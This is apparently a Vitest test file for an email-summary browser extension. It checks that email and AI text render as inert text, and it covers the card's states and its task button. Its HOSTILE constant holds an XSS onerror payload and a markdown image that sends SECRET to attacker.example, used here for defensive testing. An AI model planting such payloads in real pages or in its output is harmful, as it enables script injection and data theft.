// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import { renderSummaryCard } from '../../extension/components/SummaryCard';
import {
  EMPTY_CARD,
  parseSummaryAnswer,
  type SummaryCardState,
} from '../../extension/components/SummaryCardState';
import type { ActionItem, ThreadSummary } from '../../shared/schemas';
import { userClick } from './user-events';

const HOSTILE = '<img src=x onerror="window.__pwned=1"> ![x](https://attacker.example/?q=SECRET)';

function summary(overrides: Partial<ThreadSummary> = {}): ThreadSummary {
  return {
    threadId: 't1',
    summary: `Ann asks for numbers. ${HOSTILE}`,
    keyPoints: [HOSTILE],
    actionItems: [{ text: `Send ${HOSTILE}`, owner: '<b>you</b>', due: '2026-11-26' }],
    source: 'ai',
    engine: 'gpt-4o-mini',
    aiStatus: 'ok',
    suspicious: true,
    notes: ['hidden text removed'],
    messageCount: 2,
    at: '2026-11-22T06:00:00.000Z',
    ...overrides,
  };
}

function render(state: Partial<SummaryCardState>, onAdd: (item: ActionItem) => void = () => undefined) {
  const mount = document.createElement('div');
  document.body.replaceChildren(mount);
  renderSummaryCard(mount, { ...EMPTY_CARD, ...state }, onAdd);
  return mount;
}

describe('summary card view', () => {
  it('renders mail and model text as text: no element, link or image comes from it', () => {
    const mount = render({ summary: summary(), origin: 'api', pending: false });
    expect(mount.querySelectorAll('img, a, b, script, iframe')).toHaveLength(0);
    expect(mount.querySelector('.summary')?.textContent).toContain('<img src=x');
    expect(mount.querySelector('.owner')?.textContent).toBe('Owner: <b>you</b>');
    expect(mount.querySelector('.source-label')?.textContent).toBe('AI · gpt-4o-mini');
    expect(mount.querySelector('.due time')?.getAttribute('datetime')).toBe('2026-11-26');
    expect(mount.querySelector('.warning')?.getAttribute('role')).toBe('alert');
    expect(mount.querySelector('.notes')?.textContent).toBe('hidden text removed');
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it('shows loading, empty, offline and budget states', () => {
    expect(render({}).querySelector('[role=status]')?.textContent).toBe('Reading the thread…');
    const empty = render({
      summary: summary({ actionItems: [], suspicious: false, source: 'rules' }),
      pending: false,
    });
    expect(empty.querySelector('.empty')?.textContent).toBe('No action items in this thread.');
    expect(empty.querySelector('.source-label')?.textContent).toBe('Rules');
    expect(empty.querySelector('.warning')).toBeNull();
    const offline = render({
      summary: summary(),
      pending: false,
      error: { code: 'unavailable', message: 'x' },
    });
    expect(offline.querySelector('.error')?.textContent).toMatch(/^Offline: the Brody API cannot be reached/);
    const spent = render({
      summary: summary(),
      pending: false,
      error: { code: 'budget_exceeded', message: "Today's AI budget of 10 tokens is spent" },
    });
    expect(spent.querySelector('.error')?.textContent).toContain('AI budget spent for today');
  });

  it('Add task calls back once per click and shows Added for stored items', () => {
    const clicked: string[] = [];
    const mount = render({ summary: summary(), pending: false }, (item) => clicked.push(item.text));
    const button = mount.querySelector<HTMLButtonElement>('button.add-task');
    expect(button?.getAttribute('aria-label')).toMatch(/^Add task: Send /);
    userClick(button);
    expect(clicked).toHaveLength(1);
    const text = summary().actionItems[0]?.text ?? '';
    const done = render({ summary: summary(), pending: false, added: new Set([text]) });
    const added = done.querySelector<HTMLButtonElement>('button.add-task');
    expect(added?.textContent).toBe('Added ✓');
    expect(added?.disabled).toBe(true);
  });

  it('accepts only answers of the expected shape', () => {
    expect(parseSummaryAnswer({ ok: true, summary: summary() })?.ok).toBe(true);
    expect(parseSummaryAnswer({ ok: false, error: { code: 'unavailable', message: 'down' } })).toEqual({
      ok: false,
      error: { code: 'unavailable', message: 'down' },
    });
    expect(
      parseSummaryAnswer({ ok: true, summary: { ...summary(), keyPoints: [{ html: '<b>' }] } }),
    ).toBeNull();
    expect(parseSummaryAnswer({ rejected: true, reason: 'sender' })).toBeNull();
    expect(parseSummaryAnswer(undefined)).toBeNull();
  });
});
